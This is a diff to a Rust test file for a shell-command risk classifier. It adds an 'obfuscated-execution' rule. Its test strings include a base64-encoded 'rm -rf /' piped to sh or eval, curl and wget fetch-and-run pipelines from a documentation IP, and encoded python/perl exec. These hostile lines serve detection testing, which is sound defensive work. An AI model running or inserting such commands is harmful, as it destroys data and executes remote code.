@@ -153,7 +153,7 @@ fn parse_errors_name_the_rule_and_the_field() {
                 at: at(pg),
                 field: "category",
                 value: "exfil".to_owned(),
-                expected: "data-export, destructive, account-change, log-tampering, outbound-transfer, security-disabled, remote-access",
+                expected: "data-export, destructive, account-change, log-tampering, outbound-transfer, security-disabled, remote-access, obfuscated-execution",
             },
         ),
         (
@@ -307,4 +307,68 @@ fn everyday_maintenance_is_not_flagged() {
             .collect();
         assert!(hits.is_empty(), "{line:?} flagged by {hits:?}");
     }
+}
+
+#[test]
+fn obfuscated_execution_is_its_own_rule() {
+    let rules = RuleSet::shipped();
+    let flagged = |line: &str| {
+        rules
+            .classify(line)
+            .iter()
+            .any(|m| m.rule.as_str() == "obfuscated-execution")
+    };
+    for line in [
+        "eval \"$(echo cm0gLXJmIC8K | base64 -d)\"",
+        "echo cm0gLXJmIC8K | base64 -d | sh",
+        "echo cm0gLXJmIC8K|base64 -d|bash",
+        "bash <(curl -s http://192.0.2.1/x)",
+        "sh <(wget -O- http://192.0.2.1/x)",
+        "curl -s http://192.0.2.1/x | bash",
+        "python3 -c 'exec(__import__(\"base64\").b64decode(\"cHJpbnQoMSk=\"))'",
+        "perl -e 'eval(decode_base64(\"cHJpbnQgMQ==\"))'",
+        "xxd -r -p /tmp/p.hex | sh",
+        "cd /tmp; echo x | b\\ase64 -d | s'h'",
+    ] {
+        assert!(flagged(line), "{line:?}");
+    }
+    for line in [
+        "base64 /tmp/file",
+        "base64 -d a.b64 > a.bin; sh ./run.sh",
+        "python3 -c 'print(1)'",
+        "perl -e 'print 1'",
+        "curl -s http://localhost/x | sha256sum",
+        "eval \"$(ssh-agent -s)\"",
+        "ls -l | sort",
+    ] {
+        assert!(!flagged(line), "{line:?}");
+    }
+    let m = rules.classify("echo eA== | base64 -d | sh");
+    let hit = m
+        .iter()
+        .find(|m| m.rule.as_str() == "obfuscated-execution")
+        .unwrap();
+    assert_eq!(hit.category, Category::ObfuscatedExecution);
+    assert_eq!(hit.command, "echo eA== | base64 -d | sh");
+}
+
+#[test]
+fn a_scope_is_command_or_line() {
+    let rule = |scope: &str| {
+        format!(
+            "[[rule]]\nid = \"x\"\ncategory = \"destructive\"\nseverity = \"low\"\n\
+             requirement = \"R-10-4\"\ntitle_ja = \"x\"\ntitle_en = \"x\"\n{scope}\n\
+             pattern = 'a \\| b'\nexamples = [\"a | b\"]\n"
+        )
+    };
+    assert!(RuleSet::parse(&rule("scope = \"line\"")).is_ok());
+    // Per command, `a | b` is two commands and the pattern sees neither joined.
+    assert!(matches!(
+        RuleSet::parse(&rule("scope = \"command\"")),
+        Err(RuleError::ExampleMissed { .. })
+    ));
+    assert!(matches!(
+        RuleSet::parse(&rule("scope = \"pipeline\"")),
+        Err(RuleError::UnknownValue { field: "scope", .. })
+    ));
 }
